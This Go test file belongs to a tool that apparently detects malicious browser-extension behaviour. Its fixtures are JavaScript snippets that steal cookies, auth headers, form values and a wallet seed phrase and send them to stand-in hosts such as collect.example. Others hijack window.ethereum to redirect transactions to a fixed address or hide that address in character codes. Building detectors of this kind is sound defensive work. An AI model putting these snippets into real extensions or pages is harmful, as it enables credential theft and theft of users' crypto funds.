package flow

import (
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

func TestFlowsThroughShapes(t *testing.T) {
	const page = "https://www.exchange.test/*"
	const to = "0x7f3aE1c09B5d24468a0b7C9e35D1f02284a6cE19"
	for _, c := range []flowCase{
		{"filtered by a function of the language", "", `chrome.cookies.getAll({}, c => { const d = [c[0].value, c[1].value].filter(Boolean).join("|"); fetch("https://collect.example/", {body: d}) })`, []string{cookies}},
		{"filtered headers", "", `chrome.webRequest.onSendHeaders.addListener(e => { const r = e.requestHeaders.reduce((l, {name: f, value: m}) => ({...l, [f.toLowerCase()]: m}), {}), {authorization: s, cookie: i} = r; const o = [s, i].filter(Boolean).join("\n"); fetch("https://collect.example/", {body: o}) }, {urls: ["<all_urls>"]}, ["requestHeaders"])`, []string{"request_headers(<all_urls>) > fetch > collect.example"}},
		{"query of an address", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/ack"); u.hash = ""; for (let i = 0; i < c.length; i++) u.search = "?" + new URLSearchParams({d: c[i].value}), fetch(u) })`, []string{cookies}},
		{"path of an address", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/"); u.pathname = c[0].value; fetch(u) })`, []string{cookies}},
		{"fragment and href", "", `chrome.cookies.getAll({}, c => { const u = new URL("https://collect.example/"); u.href += c[0].value; fetch(u) })`, []string{cookies}},
		{"composed path", behavior.Content, `document.addEventListener("change", e => { const i = e.composedPath()[0]; fetch("https://collect.example/", {body: i.name + i.value}) })`, []string{"form_data(input) > fetch > collect.example"}},
		{"cookie store", behavior.Content, `cookieStore.getAll().then(a => navigator.sendBeacon("https://collect.example/", new Blob([a.map(({name, value}) => name + value).join()])))`, []string{"document.cookie(" + page + ") > beacon > collect.example"}},
		{"cookie store, one", behavior.Content, `(async () => { const {value} = await window.cookieStore.get("sid"); fetch("https://collect.example/" + value) })()`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"cookie store watcher", behavior.Content, `cookieStore.addEventListener("change", e => { for (const c of e.changed) fetch("https://collect.example/" + c.value) })`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"provider in a helper", behavior.PageWorld, `const wrap = p => { const req = p.request.bind(p); p.request = async a => { if (a.method === "eth_sendTransaction") a = {...a, params: [{...a.params[0], to: "` + to + `"}]}; return req(a) } }; wrap(window.ethereum)`, []string{"constant_address(" + to + ") > wallet_request", "wallet_request(" + page + ") > wallet_request"}},
		{"provider in a helper when set", behavior.PageWorld, `const wrap = p => { const req = p.request.bind(p); p.request = async a => { if (a.method === "eth_sendTransaction") a = {...a, params: [{...a.params[0], to: "` + to + `"}]}; return req(a) } }; let inner; Object.defineProperty(window, "ethereum", {get: () => inner, set(v) { inner = v; wrap(v) }})`, []string{"constant_address(" + to + ") > wallet_request", "wallet_request(" + page + ") > wallet_request"}},
		{"provider in a long helper", behavior.PageWorld, `function patch(relay, every) { let n = 0; const wrap = p => { const req = p.request.bind(p); p.request = async a => { var b; if (a.method === "eth_sendTransaction" && ((b = a.params) === null || b === void 0 ? void 0 : b[0])) { const tx = Object.assign({}, a.params[0]); if (!tx.data || tx.data === "0x") { if (++n % every === 0) tx.to = relay } else if (tx.data.startsWith("0xa9059cbb")) tx.data = tx.data.slice(0, 10) + relay.slice(2).padStart(64, "0") + tx.data.slice(74); return req(Object.assign(Object.assign({}, a), {params: [tx]})) } return req(a) }; return p }; wrap(window.ethereum) } patch("` + to + `", 3)`, []string{"constant_address(" + to + ") > wallet_request", "wallet_request(" + page + ") > wallet_request"}},
		{"codes of an unknown row", behavior.Content, `const rows = [{c: "#fff", ramp: [48, 120, 55, 102, 51, 97, 69, 49, 99, 48, 57, 66, 53, 100, 50, 52, 52, 54, 56, 97, 48, 98, 55, 67, 57, 101, 51, 53, 68, 49, 102, 48, 50, 50, 56, 52, 97, 54, 99, 69, 49, 57]}, {c: "#000", ramp: [48, 49]}]; const tone = r => String.fromCharCode(...r.ramp); document.querySelectorAll(".addr").forEach(el => { const k = /x(\d)/.exec(el.id); el.textContent = tone(rows[k[1]]) })`, []string{"constant_address(" + to + ") > dom_value"}},
		{"codes of an unknown row, applied", behavior.Content, `const rows = [[48, 120, 55, 102, 51, 97, 69, 49, 99, 48, 57, 66, 53, 100, 50, 52, 52, 54, 56, 97, 48, 98, 55, 67, 57, 101, 51, 53, 68, 49, 102, 48, 50, 50, 56, 52, 97, 54, 99, 69, 49, 57], [48, 49]]; document.querySelector(".addr").value = String.fromCharCode.apply(null, rows[location.hash.length])`, []string{"constant_address(" + to + ") > dom_value"}},
		{"letters of an encoder", "", `const abc = "abcdefghijklmnopqrstuvwxyz234567"; function enc(s) { let bits = 0, v = 0, o = ""; for (let i = 0; i < s.length; i++) { v = v << 8 | s.charCodeAt(i); bits += 8; while (bits >= 5) { o += abc[v >>> bits - 5 & 31]; bits -= 5 } } return o } chrome.cookies.getAll({}, c => fetch("https://collect.example/" + enc(c[0].value)))`, []string{cookies}},
		{"letters of an encoder by charAt", "", `const abc = "0123456789abcdef"; const hex = s => { let o = ""; for (const b of new TextEncoder().encode(s)) o += abc.charAt(b >> 4) + abc.charAt(b & 15); return o }; chrome.cookies.getAll({}, c => fetch("https://collect.example/" + hex(c[0].value)))`, []string{cookies}},
		{"a check before the rest", "", `const ok = new Uint8Array(new Uint32Array([1]).buffer)[0] === 2; if (!ok) throw new Error("no"); if (!ok) { throw 1 } chrome.cookies.getAll({}, c => fetch("https://collect.example/", {body: c[0].value}))`, []string{cookies}},
		{"named control", behavior.Popup, `const form = document.querySelector("form"); form.onsubmit = () => fetch("https://collect.example/", {body: form.secret.value})`, []string{"form_data([name=secret]) > fetch > collect.example"}},
	} {
		t.Run(c.name, c.run)
	}
}

// What only its user can read is not taken from him.
func TestFlowsUnderAKeyThatIsTyped(t *testing.T) {
	const script = `const enc = new TextEncoder();
		async function key(p, salt) { const b = await crypto.subtle.importKey("raw", enc.encode(p), "PBKDF2", false, ["deriveKey"]); return crypto.subtle.deriveKey({name: "PBKDF2", salt, iterations: 6e5, hash: "SHA-256"}, b, {name: "AES-GCM", length: 256}, false, ["encrypt"]) }
		document.querySelector("button").onclick = async () => { const w = document.querySelector("#mnemonic").value, p = document.querySelector("#pw").value, salt = crypto.getRandomValues(new Uint8Array(16));
			const c = await crypto.subtle.encrypt({name: "AES-GCM", iv: salt}, await key(KEY, salt), enc.encode(w)); fetch("https://copies.example/", {method: "PUT", body: c}); REST }`
	const seed = "seed_input(#mnemonic) > fetch > copies.example"
	for _, c := range []struct {
		name, key, rest string
		flows           []string
	}{
		{"typed", "p", "", nil},
		{"constant", `"k"`, "", []string{seed}},
		{"sent along", "p", `navigator.sendBeacon("https://copies.example/p", p)`, []string{"form_data(#pw) > beacon > copies.example", seed}},
		{"not all of it", "p", `fetch("https://copies.example/", {method: "POST", body: w})`, []string{seed}},
	} {
		flowCase{c.name, behavior.Popup, strings.NewReplacer("KEY", c.key, "REST", c.rest).Replace(script), c.flows}.run(t)
	}
}
